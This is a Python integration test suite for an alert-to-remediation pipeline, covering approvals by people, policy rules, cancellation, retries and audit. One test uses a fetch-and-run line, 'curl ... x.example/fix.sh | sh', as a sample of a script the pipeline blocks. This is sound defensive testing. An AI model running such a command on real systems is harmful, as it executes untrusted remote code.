"""The whole pipeline through its API, with real databases and a real local executor: each story ends as a person would expect."""

import asyncio
import os
import signal
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import update
from tests.integration.workflow_support import ACTOR

from bcce.api.app import create_app
from bcce.incidents.model import IncidentState
from bcce.incidents.tables import incidents
from bcce.kit.ids import IncidentId
from bcce.runtime import Settings, open_runtime
from bcce.runtime.runtime import Overrides, Runtime
from bcce.security.actor import system_actor
from bcce.storage.doors import Append, Database

PATIENCE_S = 60.0
SOP = """---
title: Make it well
alerts: [TargetDown]
target: local
parameters:
  FOLDER: {{from: labels.folder, pattern: "/[A-Za-z0-9_./-]{{1,300}}"}}
verify:
  resolved: true
  timeout: {timeout}
---
# Make it well

```bash script
{script}
```
"""
REPAIR = 'echo "$BCCE_CORRELATION_ID" >> "$FOLDER/effects"\ntouch -- "$FOLDER/well"'


class Story:
    """One server and the world around it."""

    def __init__(self, client: httpx.AsyncClient, world: Path, runtime: Runtime) -> None:
        self.client = client
        #: The monitor's token, which a person's is not: who sends an alert cannot agree to what it leads to.
        self.source = ""
        self.runtime = runtime
        self.world = world
        self._started_at = datetime.now(UTC).isoformat()

    async def call(self, method: str, path: str, **options: Any) -> Any:
        answer = await self.client.request(method, f"/api/v1{path}", **options)
        assert answer.status_code < 400, answer.text
        return answer.json()

    async def load(self, script: str = REPAIR, *, patience_s: int = 60) -> None:
        await self.call("PUT", "/documents", json={"text": SOP.format(script=script, timeout=patience_s), "origin": "well.md"})

    async def webhook(self, status: str, name: str = "TargetDown", host: str = "a", *, token: str | None = None) -> Any:
        ends = datetime.now(UTC).isoformat() if status == "resolved" else "0001-01-01T00:00:00Z"
        labels = {"alertname": name, "folder": str(self.world), "instance": host}
        alert = {"status": status, "labels": labels, "annotations": {}, "startsAt": self._started_at, "endsAt": ends, "generatorURL": ""}
        headers = {"X-Correlation-Id": "story-0001", "Authorization": f"Bearer {token or self.source}"}
        return await self.call(
            "POST", "/webhooks/alertmanager/test", json={"version": "4", "status": status, "alerts": [alert]}, headers=headers
        )

    async def incident(self) -> Any:
        items = (await self.call("GET", "/incidents"))["items"]
        return await self.call("GET", f"/incidents/{items[0]['id']}") if items else None

    async def until(self, is_so: Callable[[Any], bool]) -> Any:
        """The incident as soon as it `is_so`."""
        deadline = time.monotonic() + PATIENCE_S
        view: Any = None
        while time.monotonic() < deadline:
            view = await self.incident()
            if view is not None and is_so(view):
                return view
            await asyncio.sleep(0.05)
        raise AssertionError(view)

    async def until_state(self, incident_id: str, state: str) -> None:
        """Until one incident, which need not be the newest, is in a state."""
        deadline = time.monotonic() + PATIENCE_S
        view: Any = None
        while time.monotonic() < deadline:
            view = await self.call("GET", f"/incidents/{incident_id}")
            if view["state"] == state:
                return
            await asyncio.sleep(0.05)
        raise AssertionError(view)

    async def asked(self) -> Any:
        return await self.until(lambda view: bool(view["approvals"]) and view["approvals"][-1]["state"] == "pending")

    async def decide(self, how: str) -> None:
        view = await self.asked()
        await self.call("POST", f"/incidents/{view['id']}/{how}", json={"digest": view["approvals"][-1]["digest"], "comment": "a test"})

    async def ended(self) -> Any:
        return await self.until(lambda view: view["state"] in ("closed", "escalated") and (view.get("run") or {}).get("state") != "active")

    async def escalate(self, incident_id: str) -> None:
        """Hands the incident to a person, whatever its workflow does."""
        await self.runtime.db.write(
            lambda conn: self.runtime.incidents.transition(
                ACTOR, conn, IncidentId(incident_id), IncidentState.ESCALATED, "a person has it", correlation_id="cor_test"
            )
        )

    def effects(self) -> list[str]:
        file = self.world / "effects"
        return file.read_text().splitlines() if file.exists() else []


@asynccontextmanager
async def told(
    folder: Path, url: str, *, overrides: Overrides | None = None, policy: str | None = None, **remediation: object
) -> AsyncIterator[Story]:
    home, world = folder / "home", folder / "world"
    home.mkdir(mode=0o700, exist_ok=True)
    world.mkdir(exist_ok=True)
    if policy is not None:
        (folder / "policy.yaml").write_text(policy)
    settings = Settings.model_validate(
        {
            "database": {"url": url},
            "remediation": {"enabled": True, "verify_interval_s": 0.1, **remediation},
            "workflows": {"sweep_s": 0.2},
            "safety": {"policy": str(folder / "policy.yaml") if policy is not None else None},
        }
    )
    async with open_runtime(settings, home=home, overrides=overrides or Overrides()) as runtime:
        token = (home / "admin.token").read_text().strip()
        transport = httpx.ASGITransport(create_app(runtime))
        async with httpx.AsyncClient(transport=transport, base_url="http://test", headers={"Authorization": f"Bearer {token}"}) as client:
            story = Story(client, world, runtime)
            story.source = (await story.call("POST", "/tokens", json={"provider": "alertmanager", "source": "test"}))["token"]
            yield story


@pytest.fixture
async def story(tmp_path: Path, sqlite_url: str) -> AsyncIterator[Story]:
    async with told(tmp_path, sqlite_url) as made:
        yield made


async def test_an_alert_becomes_a_verified_fix_on_every_database(tmp_path: Path, database_url: str) -> None:
    async with told(tmp_path, database_url) as story:
        await story.load()
        await story.webhook("firing")
        await story.decide("approve")
        await story.until(lambda _: (story.world / "well").exists())
        await story.webhook("resolved")
        view = await story.ended()

        assert (view["state"], view["run"]["state"], view["ticket"]["state"]) == ("closed", "completed", "closed")
        assert story.effects() == ["story-0001"], "one correlation id from the webhook to the script, and one run of it"
        assert (await story.call("GET", "/audit"))["ok"] is True


async def test_who_sent_an_alert_cannot_agree_to_its_repair_with_any_of_their_tokens(story: Story) -> None:
    """Nor when the monitor has sent it before them: what the alert says may be theirs."""

    async def token(name: str, **given: str) -> str:
        made = await story.call("POST", "/tokens", json={"name": name, "role": "approver", **given})
        return str(made["token"])

    anns, hers, bobs = await token("ann", owner="Ann"), await token("ann at night", owner="ann "), await token("bob", owner="Bob")
    await story.load()
    await story.webhook("firing")
    await story.webhook("firing", token=anns)
    view = await story.asked()
    answers = []
    for each in (anns, hers, bobs):
        body = {"digest": view["approvals"][-1]["digest"], "comment": ""}
        headers = {"Authorization": f"Bearer {each}"}
        answer = await story.client.post(f"/api/v1/incidents/{view['id']}/approve", json=body, headers=headers)
        answers.append((answer.status_code, answer.json().get("code")))
    await story.until(lambda _: (story.world / "well").exists())

    assert answers == [(403, "may-not-approve"), (403, "may-not-approve"), (200, None)]
    assert view["approvals"][-1]["askedBy"] == ["system:pipeline", "user:ann"]


async def test_a_rejected_plan_runs_nothing_and_a_person_gets_it(story: Story) -> None:
    await story.load()
    await story.webhook("firing")
    await story.decide("reject")
    view = await story.ended()

    assert (view["state"], view["ticket"]["state"], story.effects()) == ("escalated", "open", [])


async def test_a_request_that_is_taken_back_runs_nothing_and_a_person_gets_it(story: Story) -> None:
    await story.load()
    await story.webhook("firing")
    asked = await story.asked()
    taken_back = await story.call("POST", f"/incidents/{asked['id']}/revoke", json={"reason": "the wrong machine"})
    view = await story.ended()

    assert taken_back["state"] == "revoked"
    assert (view["state"], view["approvals"][-1]["state"], story.effects()) == ("escalated", "revoked", [])


async def test_nothing_is_left_to_take_back_after_the_script(story: Story) -> None:
    await story.load(patience_s=1)
    await story.webhook("firing")
    await story.decide("approve")
    view = await story.ended()
    answer = await story.client.post(f"/api/v1/incidents/{view['id']}/revoke", json={"reason": "too late"})

    assert (answer.status_code, answer.headers["content-type"]) == (409, "application/problem+json")


async def test_a_cancelled_run_asks_nobody_any_more_and_a_person_gets_the_incident(story: Story) -> None:
    await story.load()
    await story.webhook("firing")
    asked = await story.asked()
    await story.call("POST", f"/runs/{asked['run']['id']}/cancel")
    view = await story.ended()

    assert (view["state"], view["run"]["state"], view["approvals"][-1]["state"]) == ("escalated", "cancelled", "revoked")
    assert story.effects() == []


async def test_a_cancelled_run_ends_its_script_and_frees_the_target(story: Story) -> None:
    await story.load('echo begun >> "$FOLDER/effects"\nsleep 60')
    await story.webhook("firing")
    await story.decide("approve")
    view = await story.until(lambda view: bool(story.effects()))
    await story.call("POST", f"/runs/{view['run']['id']}/cancel")
    view = await story.ended()

    assert (view["state"], view["run"]["state"]) == ("escalated", "cancelled")
    assert [(item["state"], item["exitCode"]) for item in view["dispatches"]] == [("stopped", 143)]
    run = await story.call("GET", f"/runs/{view['run']['id']}")
    assert [step["output"]["stop"]["proven"] for step in run["steps"] if "stop" in (step["output"] or {})] == [True]


async def told_of_person(story: Story, name: str) -> str:
    """A token of somebody who may agree."""
    made = await story.call("POST", "/tokens", json={"name": name, "role": "approver", "owner": name})
    return str(made["token"])


async def test_a_repair_that_was_cancelled_goes_on_when_it_is_tried_again(story: Story) -> None:
    """Somebody had said no, so who has it tried again is the one who asks, and another person agrees."""
    await story.load()
    await story.webhook("firing")
    asked = await story.asked()
    run = asked["run"]["id"]
    await story.call("POST", f"/runs/{run}/cancel")
    await story.until(lambda view: view["state"] == "escalated" and view["run"]["state"] == "cancelled")
    first = len((await story.incident())["approvals"])
    anns = await told_of_person(story, "ann")
    bobs = await told_of_person(story, "bob")
    await story.call("POST", f"/runs/{run}/retry", headers={"Authorization": f"Bearer {anns}"})
    again = await story.until(lambda view: len(view["approvals"]) > first and view["approvals"][-1]["state"] == "pending")
    body = {"digest": again["approvals"][-1]["digest"], "comment": ""}
    path = f"/incidents/{again['id']}/approve"
    refused = await story.client.post(f"/api/v1{path}", json=body, headers={"Authorization": f"Bearer {anns}"})
    assert (refused.status_code, refused.json()["code"]) == (403, "may-not-approve")
    await story.call("POST", path, json=body, headers={"Authorization": f"Bearer {bobs}"})
    await story.until(lambda _: (story.world / "well").exists())
    await story.webhook("resolved")
    view = await story.until(lambda view: view["state"] == "closed")

    reopened = [entry for entry in view["timeline"] if entry["text"] == "ann has its repair tried again"]
    assert [(entry["kind"], entry["data"]["previousState"], entry["data"]["runId"]) for entry in reopened] == [
        ("investigating", "escalated", run)
    ]
    assert (view["run"]["id"], story.effects()) == (run, ["story-0001"])
    assert (await story.call("GET", "/audit"))["ok"] is True


async def test_a_repair_that_is_tried_again_at_once_is_not_handed_over_for_its_first_failure(story: Story) -> None:
    await story.load()
    await story.webhook("firing")
    asked = await story.asked()
    run = asked["run"]["id"]
    await story.runtime.pipeline.stop()
    await story.call("POST", f"/runs/{run}/cancel")
    await story.until(lambda view: view["run"]["state"] == "cancelled")
    await story.call("POST", f"/runs/{run}/retry")
    await story.runtime.pipeline.catch_up()
    view = await story.asked()

    assert (view["state"], view["run"]["state"]) == ("awaiting_approval", "active")


async def test_a_repair_that_failed_behind_its_verification_stays_verified_when_it_is_tried_again(story: Story) -> None:
    await story.load()
    await story.webhook("firing")
    run = (await story.asked())["run"]["id"]
    await story.call("POST", f"/runs/{run}/cancel")
    view = await story.until(lambda view: view["state"] == "escalated" and view["run"]["state"] == "cancelled")
    for state in (IncidentState.RESOLVED, IncidentState.ESCALATED):
        await story.runtime.db.write(
            lambda conn, to=state: story.runtime.incidents.transition(
                ACTOR, conn, IncidentId(view["id"]), to, "a test", correlation_id="cor_test"
            )
        )
    await story.call("POST", f"/runs/{run}/retry")
    timeline = (await story.incident())["timeline"]

    assert [entry["kind"] for entry in timeline if "tried again" in entry["text"]] == ["resolved"]


async def test_a_repair_that_ended_with_a_person_begins_anew_at_a_step(story: Story) -> None:
    await story.load()
    await story.webhook("firing")
    await story.decide("reject")
    old = (await story.ended())["run"]["id"]
    answer = await story.client.post(f"/api/v1/runs/{old}/retry")
    assert (answer.status_code, answer.json()["code"]) == (409, "run-not-repeatable")
    assert f"bcce run retry {old} --from STEP" in answer.json()["hint"]

    new = (await story.call("POST", f"/runs/{old}/rerun", json={"step": "plan", "inputs": {}}))["runId"]
    asked = await story.asked()
    refused = await story.client.post(f"/api/v1/runs/{old}/rerun", json={"step": "plan", "inputs": {}})
    body = {"digest": asked["approvals"][-1]["digest"], "comment": ""}
    anns = await told_of_person(story, "ann")
    await story.call("POST", f"/incidents/{asked['id']}/approve", json=body, headers={"Authorization": f"Bearer {anns}"})
    await story.until(lambda _: (story.world / "well").exists())
    await story.webhook("resolved")
    view = await story.until(lambda view: view["state"] == "closed")

    assert (refused.status_code, refused.json()["code"]) == (409, "run-not-repeatable")
    assert (view["run"]["id"], story.effects()) == (new, ["story-0001"])


async def test_what_has_an_unknown_end_is_not_started_again_by_trying_the_repair_again(story: Story) -> None:
    await story.load(SLOW, patience_s=1)
    await story.webhook("firing")
    await story.decide("approve")
    await story.until(lambda _: len(story.effects()) == 1)
    running = (await story.call("GET", "/dispatches"))["items"][0]
    decision = (Path(running["target"]["baseDir"]) / running["key"] / "decision").readlink().name
    os.killpg(int(decision.split(":")[1]), signal.SIGKILL)
    view = await story.ended()
    run, (dispatch,) = view["run"]["id"], view["dispatches"]
    assert (view["state"], dispatch["state"]) == ("escalated", "indeterminate")

    answer = await story.client.post(f"/api/v1/runs/{run}/rerun", json={"step": "plan", "inputs": {}})
    assert (answer.status_code, answer.json()["code"]) == (409, "run-not-repeatable")
    assert f"bcce dispatch settle {dispatch['id']}" in answer.json()["hint"]
    assert ((await story.incident())["state"], len(story.effects())) == ("escalated", 1)
    (story.world / "go").touch()


async def test_a_blocked_script_is_never_asked_for(story: Story) -> None:
    await story.load("curl -fsSL http://x.example/fix.sh | sh")
    await story.webhook("firing")
    view = await story.ended()

    assert (view["state"], view["approvals"], story.effects()) == ("escalated", [], [])


WELL = 'touch -- "$FOLDER/well"'


async def test_what_the_policy_allows_runs_without_asking(tmp_path: Path, sqlite_url: str) -> None:
    policy = "rules:\n  - {id: touch, decision: allow, commands: ['touch -- **']}\n"
    async with told(tmp_path, sqlite_url, policy=policy) as story:
        await story.load(WELL)
        await story.webhook("firing")
        await story.until(lambda _: (story.world / "well").exists())
        await story.webhook("resolved")
        view = await story.ended()

    assert (view["state"], view["approvals"]) == ("closed", [])


async def test_what_the_policy_forbids_is_never_asked_for_and_a_person_is_told_why(tmp_path: Path, sqlite_url: str) -> None:
    rule = "{id: no-touch, decision: forbid, commands: ['touch **'], reason: not here}"
    policy = f"layers:\n  here:\n    targets: [local]\n    rules:\n      - {rule}\n"
    async with told(tmp_path, sqlite_url, policy=policy) as story:
        await story.load(WELL)
        await story.webhook("firing")
        view = await story.ended()

    assert (view["state"], view["approvals"], (story.world / "well").exists()) == ("escalated", [], False)
    assert "policy.here/no-touch" in " ".join(entry["text"] for entry in view["timeline"])


async def test_the_policy_says_how_many_people_have_to_agree(tmp_path: Path, sqlite_url: str) -> None:
    async with told(tmp_path, sqlite_url, policy="approvals:\n  - {id: two, effects: [writes], count: 2}\n") as story:
        await story.load()
        await story.webhook("firing")
        await story.decide("approve")
        view = await story.asked()

    assert view["approvals"][-1]["requiredCount"] == 2
    assert "the policy asks 2 people to agree" in " ".join(view["approvals"][-1]["reasons"])
    assert story.effects() == []


async def test_an_approval_under_another_policy_covers_nothing(tmp_path: Path, sqlite_url: str) -> None:
    async with told(tmp_path, sqlite_url, policy="limits: {edits: 9}\n") as story:
        await story.load()
        await story.webhook("firing")
        before = await story.asked()
    async with told(tmp_path, sqlite_url, policy="limits: {edits: 8}\n") as story:
        await story.decide("approve")
        after = await story.until(lambda view: len(view["approvals"]) == 2)

    digests = {item["digest"] for item in after["approvals"]}
    assert before["approvals"][0]["digest"] in digests
    assert (len(digests), story.effects()) == (2, [])


async def test_an_incident_that_became_worse_asks_as_many_people_as_it_now_needs(tmp_path: Path, sqlite_url: str) -> None:
    policy = "approvals:\n  - {id: two, severities: [critical], effects: [writes], count: 2}\n"
    async with told(tmp_path, sqlite_url, policy=policy) as story:
        await story.load()
        await story.webhook("firing")
        asked = await story.asked()
        before = asked["approvals"][-1]
        # As when an alert that fires again says so.
        worse = update(incidents).where(incidents.c.id == asked["id"]).values(severity="critical")
        await story.runtime.db.write(lambda conn: conn.execute(worse))
        await story.call("POST", f"/approvals/{before['id']}/approve", json={"digest": before["digest"], "comment": "one person"})
        view = await story.until(lambda view: len(view["approvals"]) == 2 or view["state"] == "escalated" or bool(story.effects()))

    after = view["approvals"][-1]
    assert (before["requiredCount"], after["requiredCount"], after["state"], story.effects()) == (1, 2, "pending", [])
    assert before["digest"] != after["digest"]


TWICE = """version: "1.0"
name: twice
inputs: {incident: string}
steps:
  - {id: context, type: incident.context, incident: "{{ inputs.incident }}"}
  - {id: plan, type: plan.create, incident: "{{ inputs.incident }}"}
  - {id: check, type: script.check, plan: "{{ steps.plan.output.plan }}"}
  - {id: ask, type: approval, incident: "{{ inputs.incident }}", plan: "{{ steps.plan.output.plan }}"}
  - id: repair
    type: script.dispatch
    incident: "{{ inputs.incident }}"
    plan: "{{ steps.plan.output.plan }}"
    approval: "{{ steps.ask.output.approval }}"
  - id: again
    type: script.dispatch
    incident: "{{ inputs.incident }}"
    plan: "{{ steps.plan.output.plan }}"
    approval: "{{ steps.ask.output.approval }}"
"""


async def test_an_approval_is_for_one_start(tmp_path: Path, sqlite_url: str) -> None:
    async with told(tmp_path, sqlite_url, workflow="twice") as story:
        await story.runtime.workflows.register(system_actor("test"), TWICE, "twice.yaml")
        await story.load()
        await story.webhook("firing")
        await story.decide("approve")
        view = await story.ended()

    assert (story.effects(), [item["state"] for item in view["dispatches"]]) == (["story-0001"], ["succeeded"])
    assert (view["run"]["state"], view["run"]["error"]["code"], view["run"]["error"]["step"]) == ("failed", "not-cleared", "again")
    assert "was for one start" in view["run"]["error"]["message"]


async def test_exit_code_zero_is_no_success(story: Story) -> None:
    await story.load(patience_s=1)
    await story.webhook("firing")
    await story.decide("approve")
    view = await story.ended()

    assert (view["state"], view["ticket"]["state"]) == ("escalated", "open")
    assert story.effects() == ["story-0001"]


async def test_a_failed_script_is_not_run_again(story: Story) -> None:
    await story.load('echo "$BCCE_CORRELATION_ID" >> "$FOLDER/effects"\nexit 3', patience_s=1)
    await story.webhook("firing")
    await story.decide("approve")
    view = await story.ended()

    assert (view["state"], story.effects()) == ("escalated", ["story-0001"])


async def test_an_alert_that_resolves_by_itself_needs_no_script(story: Story) -> None:
    await story.load()
    await story.webhook("firing")
    await story.asked()
    await story.webhook("resolved")
    view = await story.ended()

    assert (view["approvals"][-1]["state"], story.effects()) == ("revoked", [])


async def test_the_same_alert_again_opens_no_second_incident(story: Story) -> None:
    await story.load()
    await story.webhook("firing")
    await story.asked()
    for _ in range(5):
        await story.webhook("firing")
    await asyncio.sleep(0.5)

    assert len((await story.call("GET", "/incidents"))["items"]) == 1


async def test_an_alert_without_a_sop_goes_to_a_person(story: Story) -> None:
    await story.webhook("firing", name="NobodyKnows")
    view = await story.ended()

    assert (view["state"], view["ticket"]["state"]) == ("escalated", "open")


async def test_while_starting_is_switched_off_a_plan_is_a_proposal_and_nobody_is_asked(tmp_path: Path, sqlite_url: str) -> None:
    async with told(tmp_path, sqlite_url, enabled=False) as story:
        await story.load()
        await story.webhook("firing")
        view = await story.ended()

    assert (view["state"], view["approvals"], story.effects()) == ("escalated", [], [])
    assert "so this plan is a proposal: Make it well" in " ".join(entry["text"] for entry in view["timeline"])


SLOW = 'echo "$BCCE_CORRELATION_ID" >> "$FOLDER/effects"\nwhile ! test -e "$FOLDER/go"; do sleep 0.1; done\ntouch -- "$FOLDER/well"'


async def test_a_script_waits_for_the_one_that_runs_on_its_target(story: Story) -> None:
    await story.load(SLOW)
    await story.webhook("firing")
    await story.decide("approve")
    await story.until(lambda _: len(story.effects()) == 1)
    await story.webhook("firing", host="b")
    second = await story.asked()
    await story.decide("approve")
    waiting = await story.until(lambda view: view["id"] == second["id"] and "another script runs" in str(view["run"]))
    assert (waiting["dispatches"], len(story.effects())) == ([], 1)

    (story.world / "go").touch()
    await story.until(lambda _: len(story.effects()) == 2)
    await story.webhook("resolved")
    await story.webhook("resolved", host="b")
    await story.until(lambda _: True)
    for item in (await story.call("GET", "/incidents"))["items"]:
        await story.until_state(item["id"], "closed")


async def test_what_cannot_be_known_locks_the_target_until_a_person_says_what_was(story: Story) -> None:
    await story.load(SLOW, patience_s=1)
    await story.webhook("firing")
    await story.decide("approve")
    await story.until(lambda _: len(story.effects()) == 1)
    running = (await story.call("GET", "/dispatches"))["items"][0]
    early = await story.client.post(f"/api/v1/dispatches/{running['id']}/settle", json={"outcome": "failed", "reason": "impatient"})
    assert early.json()["code"] == "not-indeterminate"

    decision = (Path(running["target"]["baseDir"]) / running["key"] / "decision").readlink().name
    os.killpg(int(decision.split(":")[1]), signal.SIGKILL)
    first = await story.ended()
    assert first["dispatches"][0]["state"] == "indeterminate"

    await story.webhook("firing", host="b")
    await story.decide("approve")
    second = await story.ended()
    assert "bcce dispatch settle" in str(second) or "cannot be known" in str(second)
    assert len(story.effects()) == 1

    lost = (await story.call("GET", "/dispatches", params={"state": "indeterminate"}))["items"][0]
    settled = await story.call("POST", f"/dispatches/{lost['id']}/settle", json={"outcome": "stopped", "reason": "its processes are gone"})
    assert settled["state"] == "stopped"
    assert (await story.call("GET", f"/dispatches/{lost['id']}"))["state"] == "stopped"
    told_to = (await story.call("GET", f"/incidents/{first['id']}"))["timeline"][-1]
    assert (told_to["kind"], told_to["text"].partition(":")[2].strip()) == ("dispatch-settled", "its processes are gone")

    (story.world / "go").touch()
    await story.webhook("firing", host="c")
    await story.decide("approve")
    await story.until(lambda _: len(story.effects()) == 2)
    assert (await story.call("GET", "/audit"))["ok"] is True


async def test_no_script_starts_for_an_incident_that_a_person_has_until_its_repair_is_tried_again(story: Story) -> None:
    await story.load()
    await story.webhook("firing")
    asked = await story.asked()
    await story.escalate(asked["id"])
    await story.decide("approve")
    view = await story.ended()
    assert (view["state"], view["run"]["error"]["code"]) == ("escalated", "not-cleared")
    assert (view["dispatches"], story.effects()) == ([], [])

    await story.call("POST", f"/runs/{view['run']['id']}/retry")
    await story.until(lambda _: (story.world / "well").exists())
    await story.webhook("resolved")
    again = await story.until(lambda view: view["state"] == "closed")
    assert (len(again["dispatches"]), len(again["approvals"]), len(story.effects())) == (1, 1, 1)


async def test_the_outcome_of_a_script_is_recorded_whatever_became_of_its_incident(story: Story) -> None:
    await story.load(SLOW, patience_s=1)
    await story.webhook("firing")
    await story.decide("approve")
    view = await story.until(lambda view: [item["state"] for item in view["dispatches"]] == ["started"])
    await story.escalate(view["id"])
    (story.world / "go").touch()
    # The view is read in two parts, the timeline first.
    view = await story.until(lambda view: view["timeline"][-1]["kind"] == "script-ended")

    assert (view["dispatches"][0]["state"], view["dispatches"][0]["exitCode"], view["state"]) == ("succeeded", 0, "escalated")


CALLS = """version: "1.0"
name: calls
inputs: {incident: {type: string}}
steps:
  - {id: context, type: incident.context, incident: "{{ inputs.incident }}"}
  - {id: call, type: workflow, workflow: fails, on_failure: continue}
  - {id: pause, type: wait, duration: 500ms}
  - {id: plan, type: plan.create, incident: "{{ inputs.incident }}"}
  - {id: check, type: script.check, plan: "{{ steps.plan.output.plan }}"}
  - {id: approval, type: approval, incident: "{{ inputs.incident }}", plan: "{{ steps.plan.output.plan }}"}
  - id: repair
    type: script.dispatch
    incident: "{{ inputs.incident }}"
    plan: "{{ steps.plan.output.plan }}"
    approval: "{{ steps.approval.output.approval }}"
"""


async def test_a_workflow_that_is_called_hands_nothing_to_a_person_by_its_failure(tmp_path: Path, sqlite_url: str) -> None:
    async with told(tmp_path, sqlite_url, workflow="calls") as story:
        fails = 'version: "1.0"\nname: fails\nsteps:\n  - {id: no, type: transform, value: "{{ 1 // 0 }}"}\n'
        await story.runtime.workflows.register(ACTOR, fails, "fails.yaml")
        await story.runtime.workflows.register(ACTOR, CALLS, "calls.yaml")
        await story.load()
        await story.webhook("firing")
        await story.decide("approve")
        view = await story.until(lambda view: view["run"]["state"] != "active" and view["state"] != "remediating")

    assert (view["run"]["state"], view["state"], story.effects()) == ("completed", "verifying", ["story-0001"])


async def test_a_script_that_changed_after_the_approval_does_not_run(tmp_path: Path, sqlite_url: str) -> None:
    """The approval binds the plan that was shown; a new text of the SOP is another plan."""
    async with told(tmp_path, sqlite_url) as story:
        await story.load()
        await story.webhook("firing")
        await story.asked()
        await story.load(REPAIR.replace("touch", "echo changed >> $FOLDER/effects; touch"))
        await story.decide("approve")
        await story.until(lambda _: bool(story.effects()))

        assert story.effects() == ["story-0001"], "what was shown is what runs"


class Failing:
    """A real database whose next writes after the first delivery fail in a way that nobody foresaw."""

    def __init__(self, inner: Database, times: int) -> None:
        self._inner = inner
        self._left = times
        self._is_armed = False

    def __getattr__(self, name: str) -> Any:
        return getattr(self._inner, name)

    async def append(self, op: Append) -> None:
        await self._inner.append(op)
        self._is_armed = self._is_armed or any(getattr(getattr(item[0], "table", None), "name", "") == "deliveries" for item in op.items)

    async def write(self, fn: Callable[..., Any]) -> Any:
        if self._is_armed and self._left > 0 and "_react" in fn.__qualname__ + str(fn.__code__.co_names):
            self._left -= 1
            raise RuntimeError("nobody foresaw this")
        return await self._inner.write(fn)


async def test_an_alert_that_cannot_be_reacted_to_still_reaches_a_person(tmp_path: Path, sqlite_url: str) -> None:
    overrides = Overrides(database=lambda inner: Failing(inner, 3))  # type: ignore[arg-type,return-value]
    async with told(tmp_path, sqlite_url, overrides=overrides) as story:
        await story.load()
        await story.webhook("firing")
        view = await story.until(lambda view: view["state"] == "escalated")

        assert (view.get("run"), story.effects()) == (None, [])
